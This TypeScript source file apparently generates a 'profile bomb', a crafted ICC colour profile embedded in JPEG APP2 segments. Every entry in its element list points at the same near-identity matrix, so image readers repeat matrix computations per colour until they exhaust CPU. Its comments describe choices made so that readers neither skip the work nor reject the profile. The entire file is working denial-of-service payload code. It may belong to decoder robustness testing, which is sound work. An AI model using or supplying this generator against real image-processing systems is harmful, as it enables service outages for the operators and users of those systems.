import { segment } from './jpeg-bomb.ts';

const HEADER_OCTETS = 128;
/** The first is used; a reader asks for the others before it believes that the profile converts. */
const TAGS = ['D2B0', 'rXYZ', 'gXYZ', 'bXYZ', 'rTRC', 'gTRC', 'bTRC'];
const PART_OCTETS = 60_000;

/**
 * A colour profile (ICC.1:2022) of which a reader computes as many matrices as there are `elements`, one after the other, for every colour: all are
 * the same 60 octets.
 */
export function profileBomb(elements: number): Buffer {
  const matrix = Buffer.alloc(12 + 4 * 12);
  matrix.write('matf', 'latin1');
  matrix.writeUInt32BE((3 << 16) | 3, 8);
  // Nearly the identity, so that no reader leaves it out.
  for (const index of [0, 4, 8]) matrix.writeFloatBE(1.0001, 12 + 4 * index);
  matrix.writeFloatBE(0.00001, 16);

  const list = Buffer.alloc(16 + 8 * elements);
  list.write('mpet', 'latin1');
  list.writeUInt32BE((3 << 16) | 3, 8);
  list.writeUInt32BE(elements, 12);
  for (let at = 16; at < list.length; at += 8) {
    list.writeUInt32BE(list.length, at);
    list.writeUInt32BE(matrix.length, at + 4);
  }

  const tags = Buffer.alloc(4 + 12 * TAGS.length);
  tags.writeUInt32BE(TAGS.length);
  for (const [index, tag] of TAGS.entries()) {
    tags.write(tag, 4 + 12 * index, 'latin1');
    tags.writeUInt32BE(HEADER_OCTETS + tags.length, 8 + 12 * index);
    tags.writeUInt32BE(list.length + matrix.length, 12 + 12 * index);
  }

  const header = Buffer.alloc(HEADER_OCTETS);
  header.writeUInt32BE(HEADER_OCTETS + tags.length + list.length + matrix.length);
  header.writeUInt32BE(0x04400000, 8);
  header.write('mntrRGB XYZ ', 12, 'latin1');
  header.write('acsp', 36, 'latin1');
  // The illuminant, D50.
  header.writeUInt32BE(0xf6d6, 68);
  header.writeUInt32BE(0x10000, 72);
  header.writeUInt32BE(0xd32d, 76);
  return Buffer.concat([header, tags, list, matrix]);
}

/** The segments in which a JPEG holds a profile. */
export function profileSegments(profile: Uint8Array): Buffer[] {
  const count = Math.ceil(profile.length / PART_OCTETS);
  return Array.from({ length: count }, (_, index) => {
    const part = profile.subarray(index * PART_OCTETS, (index + 1) * PART_OCTETS);
    return segment(0xe2, [...Buffer.from('ICC_PROFILE\0'), index + 1, count, ...part]);
  });
}
